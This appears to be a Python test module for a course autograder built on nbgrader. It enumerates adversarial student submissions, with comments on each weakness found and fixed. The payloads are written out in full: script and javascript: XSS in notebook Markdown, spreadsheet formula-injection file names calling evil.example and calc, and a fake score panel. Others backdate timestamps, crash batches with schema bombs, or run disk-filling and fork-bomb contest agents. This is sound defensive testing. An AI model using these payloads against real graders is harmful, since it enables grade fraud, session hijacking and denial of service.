values_answer = {n.label: _read(n) for n in ps.minimax.tree.nodes() if n.children}''',
        "answer:q1_answer@ps3": _LEAVES + '''
values_answer = {n.label: Fraction(sum(leaf.value for leaf in _leaves(n)), len(_leaves(n)))
                 for n in ps.expectimax.nodes() if n.children and n.label}''',
        "answer:q1_answer@ps4": _LEAVES + '''
_t = ps.multiplayer.tree
maxn_values = {n.label: max((leaf.value for leaf in _leaves(n)), key=lambda v: v[n.player])
               for n in _t.nodes() if n.children}
maxn_move = ""'''}),
    # R4: a right UCT (the lecture's, c = 1) that counts in Fractions, which cross the pipe: the report's
    # percentages raised on them, and both MCTS questions went to a human grader.  Graded now, full marks.
    "mcts_fraction_visits": ("blame", ("ps3",), {"answer:q4_answer": '''
import math
from fractions import Fraction
def mcts(game, state, iterations, rng):
    class Node:
        def __init__(self, s, up=None, move=None):
            self.s, self.up, self.move = s, up, move
            self.kids, self.wins, self.n = [], Fraction(0), Fraction(0)
            self.untried = [] if game.is_terminal(s) else list(game.actions(s))
    def ucb(kid):
        return kid.wins / kid.n + math.sqrt(math.log(kid.up.n) / kid.n)
    root = Node(state)
    for step in range(iterations):
        leaf = root
        while leaf.kids and not leaf.untried:
            leaf = max(leaf.kids, key=ucb)
        if leaf.untried:
            move = leaf.untried.pop(0)
            leaf.kids.append(Node(game.result(leaf.s, move), leaf, move))
            leaf = leaf.kids[-1]
        s = leaf.s
        while not game.is_terminal(s):
            moves = list(game.actions(s))
            s = game.result(s, moves[rng.randrange(len(moves))])
        while leaf is not root:
            leaf.n += 1
            leaf.wins += Fraction(game.utility(s, game.to_move(leaf.up.s)) + 1, 2)
            leaf = leaf.up
        root.n += 1
    return {kid.move: (kid.wins, kid.n) for kid in root.kids}'''}),
    # R5: the right value, then the root's actions asked thousands of times and a leaf scored again: the grader's
    # lookups_dropped rescanned that run from each of its items (quadratic time).  Right values earn the points.
    "rescanned_lookups": ("cost", ("ps3",), {"answer:q3_answer": '''
def expectimax(game, state):
    leaves, inner = [], []
    def walk(s):
        if game.is_terminal(s):
            leaves.append(s)
            return game.utility(s, MAX)
        inner.append(s)
        if game.to_move(s) == CHANCE:
            return sum(p * walk(game.result(s, o)) for o, p in game.chance_outcomes(s))
        values = [walk(game.result(s, a)) for a in game.actions(s)]
        return max(values) if game.to_move(s) == MAX else min(values)
    value = walk(state)
    players = [s for s in inner if game.to_move(s) != CHANCE][:2]
    n = len(leaves) + len(inner)
    for k in range(90 * n + 900):      # just under the grader's limit of calls (100 a node + 1,000)
        game.actions(players[k % len(players)])
    game.utility(leaves[0], MAX)
    return value'''}),
    # ---------------------------------------------------------- review 40: the kernel's own messages, unchecked
    # Only while autograded (the sandboxed kernel is told NBGRADER_EXECUTION=autograde), the cell sends one iopub
    # message itself; nbclient stores what it says as it is.  A prompt number that is text made nbconvert find
    # the notebook invalid; a stream's text as a list (valid nbformat) made nbgrader's LimitOutput fail.  Either
    # way nbgrader dropped the whole submission as failed: "not graded ... it failed (see its log)".
    "kernel_text_execution_count": ("after the kernel", ("ps1", "ps3"), {"first": _kernel_sends(
        "execute_result", {"data": {"text/plain": "42"}, "metadata": {}, "execution_count": "<b>x</b>"})}),
    "kernel_stream_text_list": ("after the kernel", ("ps1", "ps4"), {"first": _kernel_sends(
        "stream", {"name": "stdout", "text": ["a\n", "b\n"]})}),
    "kernel_traceback_text": ("after the kernel", ("ps1",), {"first": _kernel_sends(
        "error", {"ename": 5, "evalue": None, "traceback": "x" * 300})}),
    # One message of 300 MB: the caps of SandboxedExecute.output applied only once it had been read whole (one of
    # 200 MB made the grading process grow by 764 MB; the kernel may hold 4 GB).  Refused by the sockets now.
    "kernel_one_huge_message": ("after the kernel", ("ps1",), {"first": _kernel_sends(
        "stream", {"name": "stdout", "text": "HUGE"}).replace("'HUGE'", "'y' * 300_000_000")}),
    # Review 42: no forged message at all.  The error of the kernel's reply is added by nbgrader as it is, past
    # the message caps: a 60 MB autograded notebook and 30 MB of feedback from one line.
    "kernel_error_reply_uncapped": ("after the kernel", ("ps1",), {"first": '''
import os
if os.environ.get("NBGRADER_EXECUTION") == "autograde":
    raise ValueError("x" * 30_000_000)
'''}),
    # ---------------------------------------------------------- nbgrader's own checks stop the whole batch
    # nbgrader's convert_notebooks re-raises SchemaTooNewError/SchemaTooOldError as NbGraderException, which
    # ends `nbgrader autograde ps1` for every student after this one (see PLANTS-free placement below:
    # set by metadata_schema_bomb in NOTEBOOK_EDITS).
}


#: The attacks the round trip runs on an assignment whose matches make every submission slow (ps2, graded with
#: no ``extras``): each is refused before a match is played, or ends with the submission's budget.
#: The tests an attack earns by honest work, beside its attack: ``slow_in_the_match`` sees whose move it is (its
#: matches are played only then) and behaves on the manners test, which ends before its evaluation slows down.
EARNS = {"slow_in_the_match": ("test_whose_move", "test_manners"), "rescanned_lookups": ("q3_test",),
         "mcts_fraction_visits": ("q4_test", "q5_test")}

SPARINGLY = ("evaluation_too_large", "evaluation_near_float_max", "slow_in_the_match", "features_any_weights",
             "borrow_package_search", "whose_move_call_order")


def _schema_bomb(nb):
    """A student cell whose nbgrader metadata claims a newer schema: nbgrader stops the whole autograde run."""
    import nbformat
    cell = nbformat.v4.new_code_cell("x = 1")
    cell.metadata["nbgrader"] = {"grade_id": "my_notes", "schema_version": 99, "grade": False, "solution": False,
                                 "locked": False}
    nb.cells.append(cell)
    return nb


def _schema_old(nb):
    """The same with schema version 0 (SchemaTooOldError)."""
    import nbformat
    cell = nbformat.v4.new_code_cell("y = 2")
    cell.metadata["nbgrader"] = {"grade_id": "my_notes_old", "schema_version": 0}
    nb.cells.append(cell)
    return nb


def _answer_cell_schema(nb):
    """The answer cell itself (its grade id kept, so KeepFirstIds and OverwriteCells keep the metadata)."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "q1_answer":
            meta["schema_version"] = 4
    return nb


def _markdown_script(nb):
    """A Markdown cell of the student's with raw HTML: nbconvert renders it as it is (no sanitizing)."""
    import nbformat
    nb.cells.append(nbformat.v4.new_markdown_cell(
        'My notes <script>document.title="advsearch-xss-md"</script><img src=x onerror="window.advsearchXss=3">'))
    return nb


def _graded_markdown_script(nb):
    """The manually graded answer (a Markdown cell the instructor reads in the formgrader) with a script."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "markdown" and meta.get("solution"):
            cell.source = 'See <img src=x onerror="window.advsearchXss=4"><script>document.title="x"</script>'
    return nb


def _markdown_entity_javascript_link(nb):
    """Review 25: SafeOutputs breaks the text "javascript:" in a student's Markdown, but Markdown decodes entities
    in a link's address: "javascript&#58;..." (or "&colon;", or "&#106;avascript:") becomes a live javascript:
    link in feedback and in the formgrader, which runs in the instructor's session when clicked."""
    import nbformat
    nb.cells.append(nbformat.v4.new_markdown_cell(
        "My derivation is [here](javascript&#58;void(document.title='advsearch-xss-link')), "
        "[also here](javascript&colon;void(window.advsearchXss=5)) and [here](&#106;avascript:void(0))."))
    return nb


def _markdown_missing_attachment(nb):
    """Review 25: a student's Markdown image names an attachment the cell does not have: nbconvert's Markdown
    renderer raises InvalidNotebook, so neither feedback nor the formgrader can make the notebook HTML."""
    import nbformat
    nb.cells.append(nbformat.v4.new_markdown_cell("My sketch: ![the tree](attachment:missing.png)"))
    return nb


def _raw_cell_fake_score(nb):
    """Review 29: a raw cell without a format is HTML to nbconvert (its raw_mimetypes include ""), cleaned by
    bleach, which keeps div, span, a href and every class: a panel that looks like nbgrader's "Score: 10.0 /
    10.0", Bootstrap's modal-backdrop over the whole page, and a live link."""
    import nbformat
    nb.cells.append(nbformat.v4.new_raw_cell(
        '<div class="panel panel-primary nbgrader_cell advsearchFake"><span class="pull-right">Score: 10.0 / 10.0'
        '</span></div><div class="modal-backdrop advsearchOverlay"></div>'
        '<a href="http://127.0.0.1:9/advsearch">details</a>'))
    return nb


def _cell_metadata_overlay(nb):
    """Review 29: the templates read a cell's metadata: each word of a tag becomes a class of the cell's <div>
    (here Bootstrap's modal-backdrop, black over the whole page), and a "transient" that is not a dict or a
    "magics_language" that is not a string stops the page being made (no feedback, formgrader 500).  It works
    on locked test cells too: OverwriteCells puts back only their nbgrader metadata."""
    for cell in nb.cells:
        cell.metadata["tags"] = ["x advsearchOverlay modal-backdrop navbar-fixed-top"]
    nb.cells[0].metadata["transient"] = "x"
    code = [cell for cell in nb.cells if cell.cell_type == "code"]
    code[-1].metadata["magics_language"] = 1
    return nb


def _answer_made_grade(nb):
    """The answer cell marked as graded with 100 points of its own (nbgrader's OverwriteCells looks it up)."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "q1_answer":
            meta.update(grade=True, points=100)
    return nb


def _many_cells(nb):
    """30,000 one-character code cells (4.4 MB, under the 5 MiB notebook cap; 40,000 are refused): each costs the kernel a round
    trip, and once the budget is used up each still gets a note, which no output cap counts."""
    import nbformat
    for i in range(30_000):
        cell = nbformat.v4.new_code_cell("1")
        cell["id"] = f"c{i:07d}"
        nb.cells.append(cell)
    return nb


#: name -> (kind, assignments, edit(notebook) -> notebook): edits of the released notebook's JSON that the
#: placements of :data:`ATTACKS` cannot express (cell metadata).
NOTEBOOK_EDITS = {
    "metadata_schema_bomb": ("stops the batch", ("ps1", "ps3", "ps4"), _schema_bomb),
    "metadata_schema_old": ("stops the batch", ("ps1",), _schema_old),
    "metadata_answer_schema": ("stops the batch", ("ps1",), _answer_cell_schema),
    "answer_made_grade": ("blame", ("ps1",), _answer_made_grade),
    "many_cells": ("cost", ("ps1",), _many_cells),
    "markdown_script": ("html", ("ps1", "ps3", "ps4"), _markdown_script),
    "graded_markdown_script": ("html", ("ps1", "ps3", "ps4"), _graded_markdown_script),
    "markdown_entity_javascript_link": ("html", ("ps1",), _markdown_entity_javascript_link),
    "markdown_missing_attachment": ("after the kernel", ("ps1",), _markdown_missing_attachment),
    "raw_cell_fake_score": ("html", ("ps1",), _raw_cell_fake_score),
    "cell_metadata_overlay": ("html", ("ps1", "ps3"), _cell_metadata_overlay),
}


def _write(name, text):
    def plant(course, folder):
        with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
            f.write(text)
    return plant


def _extra_notebook(name):
    """A copy of the hand-in under a name a spreadsheet reads as a formula (grades.csv's reason starts with it)."""
    def plant(course, folder):
        nb = os.path.join(folder, os.path.basename(folder) + ".ipynb")
        with open(nb, encoding="utf-8") as f:
            text = f.read()
        with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
            f.write(text)
    return plant


def _claims_record(course, folder):
    """The hand-in carries an advsearch record of full marks (only the grader writes one)."""
    nb = os.path.join(folder, os.path.basename(folder) + ".ipynb")
    with open(nb, encoding="utf-8") as f:
        data = json.load(f)
    data.setdefault("metadata", {})["advsearch"] = {"graded_as": os.path.basename(os.path.dirname(folder)),
                                                    "tests": {"q1_test": {"points": 4.0, "out_of": 4.0}},
                                                    "flags": [], "grader": "advsearch.autograde"}
    with open(nb, "w", encoding="utf-8") as f:
        json.dump(data, f)


#: Hand-ins planted beside the notebook, as attacks.PLANTS.
PLANTS = {
    # nbgrader reads submitted/<student>/<assignment>/timestamp.txt as the submission time: a hand-in (or an
    # inbound folder of the exchange, which SafeCollect copies as it is) dated before the due date escapes
    # the late penalty.
    "plant_backdated_timestamp": _write("timestamp.txt", "2000-01-01 00:00:00.000000 UTC\n"),
    # An unreadable time stamp: CourseDirectory.get_existing_timestamp calls self.fail, which CourseDirectory
    # does not have (AttributeError): that submission fails in nbgrader (not graded, nbgrader blamed).
    "plant_bad_timestamp": _write("timestamp.txt", "the day before the deadline\n"),
    "plant_huge_timestamp": _write("timestamp.txt", "2000-01-01 00:00:00 UTC" + " " * (4 << 20) + "\n"),
    # Notebook names that a spreadsheet runs: report.py joins "<notebook>: <reason>" for a student with
    # several notebooks, and FlaggedCsvExport writes it unescaped as grades.csv's reason.
    "plant_formula_notebook": _extra_notebook("=HYPERLINK(\"http:evil.example\",\"click\").ipynb"),
    "plant_formula_notebook_at": _extra_notebook("@SUM(1+1)*cmd|' \\C calc'!A0.ipynb"),
    "plant_formula_notebook_plus": _extra_notebook("+1+1.ipynb"),
    # A notebook name with a line break and an escape code: the report's table repeats it.
    "plant_newline_notebook": _extra_notebook("x\n\x1b[2Jstudent ps1 graded.ipynb"),
    # The hand-in claims the grader's record.
    "plant_claims_record": _claims_record,
    # A hidden notebook and a sub-folder of notebooks beside the hand-in.
    "plant_hidden_notebook": _extra_notebook(".ps1.ipynb"),
}


#: Contest entries: name -> {file name in the submissions folder: source}.  Each must lose its own games
#: (or be left out) and harm no other entrant, no record and no table.
CONTEST = {
    # The move comes back with a forged shape: Seat.move catches RunnerDied, RemoteError, ProtocolError,
    # but unpack_answer's TypeError leaves play_game, and `advsearch contest` stops ("the referee failed").
    "contest_forged_move": {"mallory.py": '''
import sys
def agent(game, state):
    sys.modules["__main__"].pack = lambda x, depth=0: {"list": 5}
    return game.actions(state)[0]
'''},
    # The same while the contest checks that the agent loads (defines_agent asks for "agent").
    "contest_forged_load": {"mallory.py": '''
import sys
sys.modules["__main__"].pack = lambda x, depth=0: {"dict": 5}
def agent(game, state):
    return game.actions(state)[0]
'''},
    # Names a spreadsheet runs: leaderboard.csv, crosstable.csv and forfeits.csv repeat them unescaped
    # (the HTML page escapes them).
    "contest_formula_names": {
        '=HYPERLINK("http:evil.example","x").py': "def agent(game, state):\n    raise ValueError('boom')\n",
        "@SUM(1+1)*cmd|' \\C calc'!A0.py": "def agent(game, state):\n    return game.actions(state)[-1]\n"},
    # The agent's working folder is its private copy under the host's /tmp, bound read-write: not a
    # memory-backed folder of disk_mb like autograding's scratch.  Files are capped at 16 MiB each, but
    # not their number: 25 x 8 MiB landed on the host's disk here (201 MB in /tmp/advsearch-agent-*), and
    # nothing stops 16 MiB files until the disk is full while its games last.
    "contest_fills_disk": {"mallory.py": '''
import os, time
_done = []
def agent(game, state):
    if not _done:
        _done.append(1)
        for i in range(25):
            with open(f"fill{i}.bin", "wb") as f:
                f.write(b"\\0" * (8 << 20))
        time.sleep(1.5)
    return game.actions(state)[0]
'''},
    # Review 40: an entry named like a baseline agent ("random"): the contest refused the whole run, "two agents
    # are called 'random'", and played no game.  Entrants come from file names a student may choose (the
    # contest template asks for my_agent.py, renamed by the lecturer or not).
    "contest_baseline_name": {"random.py": "def agent(game, state):\n    return game.actions(state)[0]\n"},
    # Review 42, on that fix: a submission refused for another reason under a reference agent's name ("handed in
    # twice") took the reference agent out too (whether an agent plays was read from the names of the reasons),
    # and with one other student the contest stopped ("needs at least two agents").
    "contest_refused_baseline_name": {"random.py": "def agent(game, state):\n    return game.actions(state)[0]\n",
                                      "random.ipynb": "{}"},
    # ... and honest entrants whose names were the keys of others' reasons ("random (submission)", and "bob?",
    # as the name "bob<BEL>" is echoed) loaded but never played.
    "contest_submission_suffix_name": {
        "random.py": "def agent(game, state):\n    return game.actions(state)[0]\n",
        "random (submission).py": "def agent(game, state):\n    return game.actions(state)[0]\n",
        "carol\x07.py": "def agent(game, state):\n    return game.actions(state)[0]\n",
        "carol?.py": "def agent(game, state):\n    return game.actions(state)[-1]\n"},
    # ... and look-alikes of a reference agent beside it: another case, a trailing space.
    "contest_look_alike_names": {"Random.py": "def agent(game, state):\n    return game.actions(state)[0]\n",
                                 "random .py": "def agent(game, state):\n    return game.actions(state)[0]\n"},
    # CPU-bound children left running while the opponent thinks (the time per move is wall time).  Fails
    # here: each sandbox is a session of its own (--new-session), so the kernel's autogroup scheduling gives
    # it one share of the CPU; a host with kernel.sched_autogroup_enabled=0 has no such defence.
    "contest_cpu_hog": {"mallory.py": '''
import os
_started = []
def agent(game, state):
    if not _started:
        _started.append(1)
        for _ in range(14):
            try:
                if os.fork() == 0:
                    while True:
                        pass
            except OSError:
                break
    return game.actions(state)[0]
'''},
}
